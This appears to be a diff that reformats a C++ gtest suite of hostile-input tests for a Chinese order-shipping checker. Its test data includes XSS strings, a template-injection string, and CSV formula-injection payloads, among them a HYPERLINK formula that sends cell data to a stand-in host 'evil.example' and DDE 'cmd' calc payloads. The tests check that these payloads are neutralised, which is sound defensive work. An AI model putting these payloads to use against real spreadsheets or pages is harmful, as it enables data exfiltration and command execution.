@@ -2,7 +2,8 @@
 // correct result or a clear Chinese error, keeps the other rows, and never crashes or hangs.
 // Runs natively, under ASan + UBSan (build/asan) and as wasm under node: no filesystem, every big
 // input is generated in memory, and each test stays fast (linear time is the bench's job).
-// Crashes the fuzzers found are the Regression.* tests at the end (inputs in tests/fuzz/regressions).
+// Crashes the fuzzers found are the Regression.* tests at the end (inputs in
+// tests/fuzz/regressions).
 #include <gtest/gtest.h>
 
 #include <nlohmann/json.hpp>
@@ -24,7 +25,8 @@ namespace {
 using nlohmann::json;
 
 constexpr Epoch kNow = 1741752000;  // 2025-03-12T12:00:00+08:00
-constexpr std::string_view kHeader = "订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司\n";
+constexpr std::string_view kHeader =
+    "订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司\n";
 // A good row the hostile rows sit next to: pickup overdue since 2025-03-11 12:00.
 constexpr std::string_view kGood =
     "250310-512000000000081,已发货，待签收,2025-03-10 08:00:00,2025-03-12 08:00:00,"
@@ -173,7 +175,8 @@ TEST(Hostile, InvalidUtf8IsReportedRepairedAndTheOtherRowsRead) {
             "请核对这些行，或重新导出为 UTF-8 后再检查");
   ASSERT_EQ(d["orders"].size(), 3u);
   EXPECT_EQ(d["orders"][0]["order_sn"], "250310-512000000000083");
-  EXPECT_EQ(d["orders"][0]["courier"]["declared"], "\xEF\xBF\xBD\xEF\xBF\xBD极兔");  // nothing dropped
+  EXPECT_EQ(d["orders"][0]["courier"]["declared"],
+            "\xEF\xBF\xBD\xEF\xBF\xBD极兔");  // nothing dropped
   expect_good_row(d);
 }
 
@@ -307,8 +310,10 @@ TEST(Hostile, OptionsMaxInputMbIsChecked) {
 TEST(Hostile, EmojiAndRtlTextSurviveExactly) {
   const std::string courier = "极兔😀\u202E速递\u200F👨‍👩‍👧";
   std::string input(kHeader);
-  input += "250310-512000000000086,待发货🚚\u202E,2025-03-10 08:00:00,2025-03-12 08:00:00,"
-           "2025-03-10 12:00:00,JT0000000000086," + courier + "\n";
+  input +=
+      "250310-512000000000086,待发货🚚\u202E,2025-03-10 08:00:00,2025-03-12 08:00:00,"
+      "2025-03-10 12:00:00,JT0000000000086," +
+      courier + "\n";
   input += kGood;
   const json d = all_formats(input);
   ASSERT_EQ(d["orders"].size(), 2u);
@@ -317,14 +322,17 @@ TEST(Hostile, EmojiAndRtlTextSurviveExactly) {
 }
 
 TEST(Hostile, HtmlAndScriptPayloadsStayPlainText) {
-  const std::string payloads[] = {
-      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
-      "javascript:alert(1)", "{{constructor.constructor('alert(1)')()}}", "</textarea><b>x</b>"};
+  const std::string payloads[] = {"<script>alert(1)</script>",
+                                  "<img src=x onerror=alert(1)>",
+                                  "\"><svg onload=alert(1)>",
+                                  "javascript:alert(1)",
+                                  "{{constructor.constructor('alert(1)')()}}",
+                                  "</textarea><b>x</b>"};
   for (const auto& p : payloads) {
     const std::string q = csv_quoted(p);
     std::string input("商品,订单号,订单状态,支付时间,承诺发货时间,快递单号,快递公司,商家备注\n");
-    input += q + ",250310-512000000000087," + q + ",2025-03-10 08:00:00,2025-03-12 08:00:00,," +
-             q + "," + q + "\n";
+    input += q + ",250310-512000000000087," + q + ",2025-03-10 08:00:00,2025-03-12 08:00:00,," + q +
+             "," + q + "\n";
     std::string block = "订单编号：250309-512000000000301\n商品：" + p + "\n快递公司：" + p +
                         "\n运单号：" + p + "\n2025-03-10 19:47:55 " + p + " 已揽收\n\n";
     const json d = all_formats(input + "\n" + block + std::string(kHeader) + std::string(kGood));
@@ -339,15 +347,20 @@ TEST(Hostile, HtmlAndScriptPayloadsStayPlainText) {
 }
 
 TEST(Hostile, FormulaPayloadsAreNeutralisedInCsv) {
-  const std::string payloads[] = {
-      "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-      "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"};
+  const std::string payloads[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
+                                  "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0",
+                                  "@SUM(1+1)*cmd|' /C calc'!A0",
+                                  "\t=1+1",
+                                  "\r=1+1",
+                                  "=1+1"};
   for (const auto& p : payloads) {
-    std::string input("商品,订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司,商家备注\n");
+    std::string input(
+        "商品,订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司,商家备注\n");
     const std::string quoted = csv_quoted(p);
     input += quoted + ",250310-512000000000088," + quoted +
-             ",2025-03-10 08:00:00,2025-03-12 08:00:00,2025-03-10 12:00:00," + quoted + "," + quoted +
-             "," + quoted + "\n\n";
+             ",2025-03-10 08:00:00,2025-03-12 08:00:00,2025-03-10 12:00:00," + quoted + "," +
+             quoted + "," + quoted + "\n\n";
     input += kHeader;
     input += kGood;
     const std::string csv = run(input, OutputFormat::kCsv);
@@ -359,7 +372,8 @@ TEST(Hostile, FormulaPayloadsAreNeutralisedInCsv) {
         ASSERT_FALSE(!c.empty() && !number &&
                      (c[0] == '=' || c[0] == '+' || c[0] == '-' || c[0] == '@' || c[0] == '\t' ||
                       c[0] == '\r'))
-            << "formula cell: " << c << "\n" << csv;
+            << "formula cell: " << c << "\n"
+            << csv;
       }
     }
     // The JSON keeps the payload as the merchant wrote it (trimmed like every cell).
@@ -425,7 +439,8 @@ TEST(Hostile, DeeplyNestedJsonPasteIsRefusedWithoutRecursion) {
 }
 
 TEST(Hostile, EnormousAggregatorJsonIsRead) {
-  std::string input = R"({"message":"ok","nu":"75124400000301","com":"zhongtong","state":"0","data":[)";
+  std::string input =
+      R"({"message":"ok","nu":"75124400000301","com":"zhongtong","state":"0","data":[)";
   for (int i = 0; i < 20000; ++i) {
     if (i) input += ',';
     input += R"({"time":"2025-03-10 19:47:55","context":"【义乌稠城】 已揽收"})";
@@ -467,7 +482,8 @@ TEST(Hostile, MalformedRuleOverridesKeepTheDefaults) {
        "规则覆盖「pickup_window_hours」的值应为数字，已保留默认值"},
       {R"({"pickup_window_hours":{"value":null}})", "pickup_window_hours",
        "规则覆盖「pickup_window_hours」的值应为数字，已保留默认值"},
-      {deep_value, "pickup_window_hours", "规则覆盖「pickup_window_hours」的值应为数字，已保留默认值"},
+      {deep_value, "pickup_window_hours",
+       "规则覆盖「pickup_window_hours」的值应为数字，已保留默认值"},
       {R"({"<script>alert(1)</script>":1})", "<script>alert(1)</script>",
        "规则覆盖中的「<script>alert(1)</script>」不是已知的规则项，已忽略"},
   };
@@ -526,7 +542,8 @@ TEST(Hostile, WordingSlotsTakeHostileTextAsPlainText) {
     bool seen = false;
     for (const auto& w : d["wordings"]) {
       EXPECT_FALSE(w["text"].get<std::string>().empty());
-      if (is_valid_utf8(p)) seen = seen || w["text"].get<std::string>().find(p) != std::string::npos;
+      if (is_valid_utf8(p))
+        seen = seen || w["text"].get<std::string>().find(p) != std::string::npos;
     }
     if (is_valid_utf8(p)) {
       EXPECT_TRUE(seen) << p.substr(0, 40);
@@ -536,7 +553,11 @@ TEST(Hostile, WordingSlotsTakeHostileTextAsPlainText) {
 
 TEST(Hostile, WordingRequestJsonMalformed) {
   const std::string cases[] = {
-      "", "not json", "[1]", R"({"kind":1})", R"({"now":"2025-02-30 08:00:00"})",
+      "",
+      "not json",
+      "[1]",
+      R"({"kind":1})",
+      R"({"now":"2025-02-30 08:00:00"})",
       std::string(100000, '[') + std::string(100000, ']'),
       "{\"kind\":\"all\",\"rules\":" + std::string(100000, '{') + "}",
       "{\"kind\":\"all\",\"rules\":" + std::string(100000, '[') + std::string(100000, ']') + "}",
